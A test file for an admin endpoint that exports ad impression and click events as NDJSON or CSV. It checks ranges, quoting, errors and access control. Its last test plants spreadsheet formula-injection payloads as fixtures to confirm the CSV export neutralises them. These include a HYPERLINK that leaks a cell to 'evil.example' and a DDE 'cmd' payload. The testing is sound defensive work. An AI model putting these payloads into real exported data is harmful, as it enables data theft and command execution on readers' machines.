import { adActivityStream } from '@kainga/contracts';
import { AD_RECORD_COLUMNS, parseRange, replayAds, textEncoder } from '@kainga/projections/ad-records';
import { appendAdLog, click, impression } from '@kainga/projections/ad-records/testing';
import { Writable } from 'node:stream';
import { brotliDecompressSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { client, registerAdmin, startTestApp, type TestApp } from '../testing/test-app';

interface Row {
  position: string;
  kind: string;
  eventId: string;
}
const rowsOf = (ndjson: string): Row[] =>
  ndjson
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Row);

describe('GET /api/admin/ad-events', () => {
  let t: TestApp;
  let admin: ReturnType<typeof client>;
  /** Log positions of the fixture's ad events, in log order (registration events come before them). */
  let positions: string[];

  beforeAll(async () => {
    t = await startTestApp({ ADMIN_EMAILS: 'boss@example.nz' });
    admin = client(t.app);
    await registerAdmin(t, admin, 'boss@example.nz');
    // Four impressions and two clicks on 1 and 2 March 2026, other events between (ad-log.fixture.ts).
    await appendAdLog(t.stores.eventStore);
    positions = rowsOf((await admin.get('/api/admin/ad-events')).body).map((r) => r.position);
  });
  afterAll(() => t.close());

  it('streams every impression and click as NDJSON, in log order, as a download', async () => {
    const res = await admin.get('/api/admin/ad-events');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="ad-events_start_end.ndjson"');
    expect(res.headers['cache-control']).toBe('no-store');
    const rows = rowsOf(res.body);
    expect(rows.map((r) => r.eventId)).toEqual(['event-impression-1', 'event-impression-2', 'event-click-1', 'event-impression-3', 'event-click-2', 'event-impression-4']);
    expect(rows.map((r) => Object.keys(r))).toEqual(rows.map(() => [...AD_RECORD_COLUMNS]));
    expect([...positions].sort()).toEqual(positions);
    expect(res.body).not.toContain('AdSubscriptionStarted');
  });

  it('gives the same bytes on every request, the bytes the replay CLI writes for the range', async () => {
    for (const query of ['', '?format=csv', '?from=2026-03-01T10:30:00Z&to=2026-03-02']) {
      const first = await admin.get(`/api/admin/ad-events${query}`);
      const second = await admin.get(`/api/admin/ad-events${query}`);
      expect(first.rawPayload.length).toBeGreaterThan(0);
      expect(second.rawPayload.equals(first.rawPayload)).toBe(true);
      // The CLI's own path (replayAds into a file), on the same store and range.
      const params = new URLSearchParams(query);
      const chunks: Buffer[] = [];
      const out = new Writable({
        write(chunk: Buffer, _encoding, done) {
          chunks.push(chunk);
          done();
        },
      });
      const format = params.get('format') === 'csv' ? 'csv' : 'ndjson';
      await replayAds(t.stores.eventStore, { range: parseRange(params.get('from') ?? undefined, params.get('to') ?? undefined), encoder: textEncoder(format), out });
      expect(Buffer.concat(chunks).equals(first.rawPayload)).toBe(true);
      // Compressed for a client that accepts it (a browser does): the same bytes once decoded.
      const br = await admin.get(`/api/admin/ad-events${query}`, { 'accept-encoding': 'br, gzip' });
      expect(br.headers['content-encoding']).toBe('br');
      expect(brotliDecompressSync(br.rawPayload).equals(first.rawPayload)).toBe(true);
    }
  });

  it('bounds by UTC day, instant or position (from inclusive, to exclusive), naming the file after the range', async () => {
    const day2 = await admin.get('/api/admin/ad-events?from=2026-03-02');
    expect(rowsOf(day2.body).map((r) => r.eventId)).toEqual(['event-impression-3', 'event-click-2', 'event-impression-4']);
    expect(day2.headers['content-disposition']).toBe('attachment; filename="ad-events_20260302T000000Z_end.ndjson"');

    const day1 = await admin.get('/api/admin/ad-events?from=2026-03-01&to=2026-03-02');
    expect(rowsOf(day1.body).map((r) => r.eventId)).toEqual(['event-impression-1', 'event-impression-2', 'event-click-1']);
    expect(day1.headers['content-disposition']).toBe('attachment; filename="ad-events_20260301T000000Z_20260302T000000Z.ndjson"');

    const instant = await admin.get(`/api/admin/ad-events?from=${encodeURIComponent('2026-03-02T13:00:00+13:00')}&to=2026-03-02T09:00:00.000Z`);
    expect(rowsOf(instant.body).map((r) => r.eventId)).toEqual(['event-impression-3']);

    const [from, to] = [Number(positions[2]), Number(positions[5])];
    const byPosition = await admin.get(`/api/admin/ad-events?from=${from}&to=${to}`);
    expect(rowsOf(byPosition.body).map((r) => r.position)).toEqual(positions.slice(2, 5));
    expect(byPosition.headers['content-disposition']).toBe(`attachment; filename="ad-events_${from}_${to}.ndjson"`);

    // Empty parameters, as a form sends them, leave that end open.
    expect((await admin.get('/api/admin/ad-events?from=&to=')).body).toBe((await admin.get('/api/admin/ad-events')).body);
    expect((await admin.get('/api/admin/ad-events?from=2026-04-01')).body).toBe('');
  });

  it('writes RFC 4180 CSV with its header, quoting where needed, empty fields for nulls', async () => {
    const res = await admin.get('/api/admin/ad-events?format=csv&to=2026-03-02');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="ad-events_start_20260302T000000Z.csv"');
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe(AD_RECORD_COLUMNS.join(','));
    expect(lines).toHaveLength(5);
    expect(lines[2]).toContain(',sidebar_valuation,,,,,Mozilla/5.0,');
    expect(lines[3]).toContain(',"Agent ""X"", v2",');
    expect(lines[4]).toBe('');
    // A range without ad events: the header alone.
    expect((await admin.get('/api/admin/ad-events?format=csv&from=2026-04-01')).body).toBe(`${AD_RECORD_COLUMNS.join(',')}\r\n`);
  });

  it.each([
    ['from=yesterday', 'from yesterday: expected a date (YYYY-MM-DD), a timestamp with its zone (e.g. 2026-03-01T10:00:00Z) or a log position (a whole number).'],
    ['to=2026-02-30', 'to 2026-02-30: no such day (expected YYYY-MM-DD).'],
    ['from=2026-03-01T10:00:00', 'from 2026-03-01T10:00:00: expected a date'],
    ['from=123456789012345678901', 'from 123456789012345678901: a position has at most 20 digits.'],
    ['from=2026-03-02&to=2026-03-01', 'to 2026-03-01 is not after from 2026-03-02: the range is empty.'],
    ['from=7&to=7', 'to 7 is not after from 7: the range is empty.'],
    ['format=parquet', 'format must be ndjson or csv'],
    ['format=', 'format must be ndjson or csv'],
    ['from=a&from=b', 'from is given more than once: send it once'],
  ])('answers 400 with the reason for %s', async (query, message) => {
    const res = await admin.get(`/api/admin/ad-events?${query}`);
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.json().message).toContain(message);
  });

  it('answers only admins: 401 signed out, 403 for anyone else, with none of the records', async () => {
    const someone = client(t.app);
    const signedOut = await someone.get('/api/admin/ad-events');
    expect(signedOut.statusCode).toBe(401);
    expect(signedOut.json()).toHaveProperty('message');
    await someone.register('someone@example.nz');
    const refused = await someone.get('/api/admin/ad-events?format=csv');
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toHaveProperty('message');
    expect(refused.body).not.toContain('impression');
  });

  it('is documented in the OpenAPI spec with its query and its error answers', async () => {
    const get = (await client(t.app).get('/api/docs/json')).json().paths['/api/admin/ad-events'].get;
    expect(get.parameters.map((p: { name: string; in: string }) => `${p.in}:${p.name}`).sort()).toEqual(['query:format', 'query:from', 'query:to']);
    expect(Object.keys(get.responses).sort()).toEqual(['400', '401', '403']);
    expect(get.description).toContain('text/csv');
  });
});

describe('GET /api/admin/ad-events?format=csv with formulas in the anonymous fields', () => {
  let t: TestApp;
  afterAll(() => t?.close());

  it('neutralises a city, suburb, property id or user agent a spreadsheet would run, in CSV only', async () => {
    t = await startTestApp({ ADMIN_EMAILS: 'boss@example.nz' });
    const admin = client(t.app);
    await registerAdmin(t, admin, 'boss@example.nz');
    // What any browser may send with an impression or a click: none of it is ours.
    const formulas = { city: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', suburb: '+SUM(1,2)', propertyId: '@SUM(A1:A9)', userAgent: "=cmd|' /C calc'!A0" };
    await t.stores.eventStore.append(
      adActivityStream('2026-03-01'),
      [impression(1, '2026-03-01T09:00:00.000Z', formulas), click(1, '2026-03-01T09:00:01.000Z', { ...formulas, userAgent: '-2+3+cmd|x' })],
      { expectedRevision: 'no_stream' },
    );

    const res = await admin.get('/api/admin/ad-events?format=csv');
    expect(res.statusCode).toBe(200);
    const [, first, second] = res.body.split('\r\n');
    const neutralised = `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")","'+SUM(1,2)",,'@SUM(A1:A9),`;
    expect(first).toContain(`,${neutralised}'=cmd|' /C calc'!A0,`);
    expect(second).toContain(`,${neutralised}'-2+3+cmd|x,`);
    // NDJSON is data, not a spreadsheet: it keeps the text as recorded.
    const ndjson = rowsOf((await admin.get('/api/admin/ad-events')).body);
    expect(ndjson[0]).toMatchObject(formulas);
  });
});
